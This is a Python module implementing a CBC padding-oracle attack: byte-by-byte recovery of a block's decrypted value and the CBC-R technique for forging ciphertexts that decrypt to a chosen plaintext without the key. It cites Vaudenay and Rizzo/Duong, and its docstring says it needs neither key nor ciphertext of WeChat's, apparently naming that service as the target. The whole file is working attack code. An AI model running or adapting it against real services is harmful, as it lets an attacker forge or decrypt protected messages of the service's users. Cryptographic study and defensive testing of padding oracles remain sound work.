"""The attack on CBC: who can tell right padding from wrong writes a document of their choice.

Sources: S. Vaudenay, "Security Flaws Induced by CBC Padding" (Eurocrypt 2002), which decrypts; J.
Rizzo and T. Duong, "Practical Padding Oracle Attacks" (2010), section 3.2, which turns it round
and encrypts (CBC-R). It needs neither key nor any ciphertext of WeChat's.
"""

from collections.abc import Callable

from Crypto.Util.Padding import pad

BLOCK = 16

Oracle = Callable[[bytes, bytes], bool]
"""Says of an iv and a ciphertext whether its padding seems to be right."""


class NothingLearnedError(Exception):
    """No guess looked different from the others: there is no oracle."""


def forge(oracle: Oracle, plaintext: bytes, *, looks: int = 1) -> tuple[bytes, bytes]:
    """Encrypt without the key, from the last block to the first; the iv comes out at the end.

    Args:
        oracle: Tells right padding from wrong.
        plaintext: What the ciphertext is to decrypt to.
        looks: How often to look at all guesses, for an oracle that may err.

    Returns:
        The iv and the ciphertext that decrypt to the plaintext.

    Raises:
        NothingLearnedError: The oracle is none.
    """
    padded = pad(plaintext, BLOCK)
    ciphertext = block = bytes(BLOCK)  # any block will do for the last
    for start in range(len(padded) - BLOCK, -1, -BLOCK):
        block = _xor(decipher(oracle, block, looks=looks), padded[start : start + BLOCK])
        ciphertext = block + ciphertext
    return ciphertext[:BLOCK], ciphertext[BLOCK:]


def decipher(oracle: Oracle, block: bytes, last: int = BLOCK, *, looks: int = 1) -> bytes:
    """Find what the cipher itself makes of a block, before CBC adds the block ahead of it.

    Args:
        oracle: Tells right padding from wrong.
        block: The block.
        last: How many bytes to find, from the end; those ahead of them stay zero.
        looks: How often to look at all guesses, for an oracle that may err.

    Raises:
        NothingLearnedError: The oracle is none.
    """
    found = bytearray(BLOCK)
    for position in reversed(range(BLOCK - last, BLOCK)):
        length = BLOCK - position
        iv = bytearray(_xor(found, bytes([length]) * BLOCK))
        for guess in (*range(256),) * looks:
            iv[position] = guess
            if oracle(bytes(iv), block) and (length > 1 or _ends_in_one(oracle, iv, block)):
                found[position] = guess ^ length
                break
        else:
            raise NothingLearnedError(f"no guess at byte {position} looked like right padding")
    return bytes(found)


def _ends_in_one(oracle: Oracle, iv: bytearray, block: bytes) -> bool:
    """Tell padding of 1 from a longer one, which another byte ahead of it would spoil."""
    changed = bytearray(iv)
    changed[-2] ^= 0xFF
    return oracle(bytes(changed), block)


def _xor(one: bytes | bytearray, other: bytes | bytearray) -> bytes:
    return bytes(a ^ b for a, b in zip(one, other, strict=True))
